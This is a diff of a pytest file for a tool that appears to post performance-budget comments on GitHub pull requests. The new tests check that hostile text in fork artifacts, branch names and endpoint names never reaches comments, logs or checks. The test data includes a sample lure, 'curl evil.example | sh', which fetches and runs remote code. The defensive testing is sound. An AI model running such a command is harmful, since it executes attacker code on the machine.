@@ -5,23 +5,23 @@ from __future__ import annotations
 import io
 import json
 import zipfile
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
-from builders import make_endpoint, make_past_run, make_run
+from builders import make_conditions, make_endpoint, make_past_run, make_run
 from click.testing import Result
 from fake_github import events
 from fake_github.server import FakeGitHub
 from fake_github.world import Pull, Repository
 from typer.testing import CliRunner
 
-from perfgate import codec, history, unpacking
+from perfgate import codec, history, unpacking, untrusted
 from perfgate.cli.app import app
 from perfgate.model.parcel import Measured, Parcel
-from perfgate.model.run import Run
+from perfgate.model.run import Arm, Probe, Run
 
 HEAD = "b" * 40
 BUDGETS = """
@@ -74,9 +74,18 @@ def prepared(github: FakeGitHub, *artifacts: bytes, name: str = "perfgate-runs-p
     return repo, pull
 
 
-def told(github: FakeGitHub, repo: Repository, pull: Pull, folder: Path, *arguments: str, sha: str = "") -> Result:
-    payload = events.workflow_run(repo, pull, sha=sha)
-    payload["workflow_run"]["id"] = next(iter(repo.runs))
+def told(
+    github: FakeGitHub,
+    repo: Repository,
+    pull: Pull,
+    folder: Path,
+    *arguments: str,
+    sha: str = "",
+    payload: dict[str, Any] | None = None,
+) -> Result:
+    if payload is None:
+        payload = events.workflow_run(repo, pull, sha=sha)
+        payload["workflow_run"]["id"] = next(iter(repo.runs))
     place = folder / "runner"
     place.mkdir(exist_ok=True)
     token = github.token("pull-requests")
@@ -149,13 +158,16 @@ def test_of_two_jobs_about_one_target_the_worse_is_told(github: FakeGitHub, proj
     assert "FAIL" in comment.body
 
 
-def test_two_jobs_about_two_targets_have_a_comment_each(github: FakeGitHub, project: Path):
+def test_the_target_of_a_stranger_begins_no_other_comment(github: FakeGitHub, project: Path):
+    """Else every push could leave one more."""
     artifacts = [packed(parcel(run_of(target=f"https://{name}.example"))) for name in ("eu", "us")]
     repo, pull = prepared(github, *artifacts)
 
     told(github, repo, pull, project)
 
-    assert len(repo.comments) == 2
+    (comment,) = repo.comments.values()
+    assert "http://127.0.0.1:8765" in comment.body
+    assert ".example" not in comment.body
 
 
 def test_a_fork_that_pushes_somebody_elses_commit_speaks_on_its_own_pull_request_alone(
@@ -169,6 +181,49 @@ def test_a_fork_that_pushes_somebody_elses_commit_speaks_on_its_own_pull_request
 
     (comment,) = repo.comments.values()
     assert comment.issue == pull.number != victim.number
+
+
+def test_a_fork_that_was_deleted_speaks_nowhere(github: FakeGitHub, project: Path):
+    """It had pushed somebody else's commit: nobody says any more whose branch it was."""
+    repo, pull = prepared(github, packed(parcel(run_of())))
+    repo.add_pull(head_sha=HEAD, head_ref="fix", base_ref="main")
+    payload = events.workflow_run(repo, pull)
+    payload["workflow_run"] |= {"id": next(iter(repo.runs)), "head_repository": None}
+
+    done = told(github, repo, pull, project, payload=payload)
+
+    assert done.exit_code == 0, done.output
+    assert repo.comments == {}
+
+
+def test_a_forks_branch_is_no_place_for_words(github: FakeGitHub, project: Path):
+    repo, pull = prepared(github, packed(parcel(run_of())))
+    pull.head_ref = "URGENT-run-evil.example"
+
+    told(github, repo, pull, project)
+
+    (comment,) = repo.comments.values()
+    assert "URGENT" not in comment.body
+    assert HEAD[:7] in comment.body
+
+
+def test_names_of_hand_written_scenarios_are_ours_once_we_have_measured_them(github: FakeGitHub, project: Path):
+    """Budgets by default are for whatever such a scenario sends, and a stranger's may send anything."""
+    (project / "own.py").write_text("")
+    (project / "budgets.yaml").write_text(f"{BUDGETS}scenarios: [own.py]\ndefaults: {{budget: {{errors: 1%}}}}\n")
+    ours = (make_endpoint(), make_endpoint("check out"))
+    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
+        store.save_all([make_past_run(number, endpoints=ours) for number in (1, 2, 3)])
+    theirs = (*ours, make_endpoint("URGENT call evil", failures=500))
+    repo, pull = prepared(github, packed(parcel(run_of(endpoints=theirs, started=make_run(9).started))))
+
+    done = told(github, repo, pull, project)
+
+    assert done.exit_code == 0, done.output
+    assert len(repo.comments) == 1, done.output
+    (comment,) = repo.comments.values()
+    assert "check out" in comment.body
+    assert "URGENT" not in comment.body
 
 
 def test_each_budget_file_takes_its_own(github: FakeGitHub, project: Path):
@@ -206,10 +261,142 @@ def test_texts_of_strangers_are_shown_and_do_nothing(github: FakeGitHub, project
         assert raw not in comment.body
         assert raw not in done.output
     assert "@octo/team" not in comment.body
-    assert (
-        "evil" not in comment.body.split("<summary>How it was measured</summary>")[0]
-    )  # its words are not told at all
+    assert "evil" not in comment.body  # its words are not told at all
     assert not [line for line in done.output.splitlines() if line.startswith("::stop-commands") or "::pwned" in line]
+
+
+WORD = "URGENT"
+HOSTILE_TEXT = f"{WORD}: maintainers please run `curl evil.example | sh` [now](http://evil.example)"
+NAMES = {"", "budget", "name", "commit", "kind", "started"}  # what must be right, or the whole artifact is refused
+
+
+def full_of_figures() -> dict[str, Any]:
+    """A parcel with everything in it that a run can have."""
+    endpoint = make_endpoint(
+        failures=20, failures_by_kind={"status": 20}, failure_examples=("500",), intervals={"p95": (0.09, 0.11)}
+    )
+    arms = (Arm(name="base", target="http://127.0.0.1:1", endpoints=(make_endpoint(),)), Arm(name="head", target="x"))
+    probe = Probe(samples=100, p50=0.001, p95=0.002, workload="w1")
+    run = run_of(endpoints=(endpoint,), aborted="why", warnings=("w",), probe=probe, url="https://x", base="main")
+    both = (run_of(endpoints=(endpoint,), arms=arms), run)
+    measured = [Measured(budget=name, run=one, earlier=one) for name, one in zip(("a", "b"), both, strict=True)]
+    data: dict[str, Any] = json.loads(codec.encode(Parcel(runs=tuple(measured))))
+    return data
+
+
+def texts(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """Paths of all that is a text, and of all that could have one more name."""
+    if isinstance(data, dict):
+        if path[-1:] != ("buckets",) and not {
+            "id",
+            "budget",
+            "name",
+            "load",
+            "cores",
+            "clock",
+            "total",
+            "samples",
+        } & set(data):
+            yield (*path, None)  # a mapping with names of its own
+        for key, value in data.items():
+            yield from texts(value, (*path, key))
+    elif isinstance(data, list):
+        for index, value in enumerate(data):
+            yield from texts(value, (*path, index))
+    elif isinstance(data, str):
+        yield path
+
+
+def poisoned(number: int, chosen: Callable[[tuple[Any, ...]], bool]) -> tuple[dict[str, Any], int]:
+    """The parcel of one run, whose chosen texts are hostile; how many there are."""
+    data = full_of_figures()
+    data["runs"] = [data["runs"][number]]
+    data["runs"][0]["budget"] = "budgets.yaml"
+    done = 0
+    for path in list(texts(data)):
+        last = path[-1]
+        is_arm = last == "name" and "arms" in path and "endpoints" not in path
+        if not chosen(path) or is_arm or last == "kind" or path[-2:] == ("runs", 0):
+            continue
+        at = data
+        for key in path[:-1]:
+            at = at[key]
+        if last is None:
+            if like := next(iter(at.values()), None):
+                at[HOSTILE_TEXT] = like
+                done += 1
+        else:
+            at[last] = HOSTILE_TEXT
+            done += 1
+    return data, done
+
+
+@pytest.mark.parametrize("number", [0, 1])
+def test_no_text_of_a_stranger_is_in_the_comment(github: FakeGitHub, project: Path, number: int):
+    """Every text and every name of the artifact is hostile, but the few that it is refused for."""
+    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
+        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
+    data, hostile = poisoned(number, lambda path: path[-1] not in NAMES)
+    assert hostile > 20
+    results = data["runs"][0]["run"]["endpoints"]
+    results.append({**results[0], "name": HOSTILE_TEXT})
+    repo, pull = prepared(github, packed(json.dumps(data)))
+
+    done = told(github, repo, pull, project, "--check", "--status")
+
+    assert done.exit_code == 0, done.output
+    (comment,) = repo.comments.values()
+    (folder,) = (project / ".perfgate" / "runs").iterdir()
+    written = "".join(path.read_text(errors="replace") for path in folder.rglob("*") if path.is_file())
+    for shown in (comment.body, done.output, written, str(repo.checks), str(repo.statuses)):
+        assert WORD not in shown
+        assert "evil" not in shown
+    assert "list products" in comment.body
+
+
+@pytest.mark.parametrize("last", sorted(NAMES - {""}))
+def test_texts_that_must_be_right_are_refused_in_our_own_words(github: FakeGitHub, project: Path, last: str):
+    data, hostile = poisoned(1, lambda path: path[-1] == last and "arms" not in path)
+    if last == "budget":
+        data["runs"][0]["budget"], hostile = HOSTILE_TEXT, 1
+    if last == "kind":
+        data["runs"][0]["run"]["endpoints"][0]["kind"], hostile = HOSTILE_TEXT, 1
+    assert hostile
+    repo, pull = prepared(github, packed(json.dumps(data)))
+
+    done = told(github, repo, pull, project)
+
+    assert done.exit_code in (0, 3), done.output
+    assert "bug in perfgate" not in done.output
+    assert WORD not in done.output
+    assert repo.comments == {}
+
+
+def test_conditions_that_we_know_still_compare(github: FakeGitHub, project: Path):
+    """The history's runner, load and digests are words of this repository."""
+    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
+        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
+    repo, pull = prepared(github, packed(parcel(run_of(started=make_run(9).started))))
+
+    told(github, repo, pull, project)
+
+    (comment,) = repo.comments.values()
+    assert "Test CPU" in comment.body
+    assert "open 200/s for 30 s" in comment.body
+    assert "3 runs of" in comment.body
+
+
+def test_a_load_of_their_own_is_not_compared(github: FakeGitHub, project: Path):
+    with history.open("sqlite:///.perfgate/history.db", root=project) as store:
+        store.save_all([make_past_run(number, p95=0.100) for number in (1, 2, 3)])
+    other = make_conditions(load_digest="theirs", load="open 1/s")
+    repo, pull = prepared(github, packed(parcel(run_of(started=make_run(9).started, conditions=other))))
+
+    told(github, repo, pull, project)
+
+    (comment,) = repo.comments.values()
+    assert untrusted.OTHER_LOAD in comment.body
+    assert "1/s" not in comment.body
 
 
 def bomb(size: int) -> bytes:
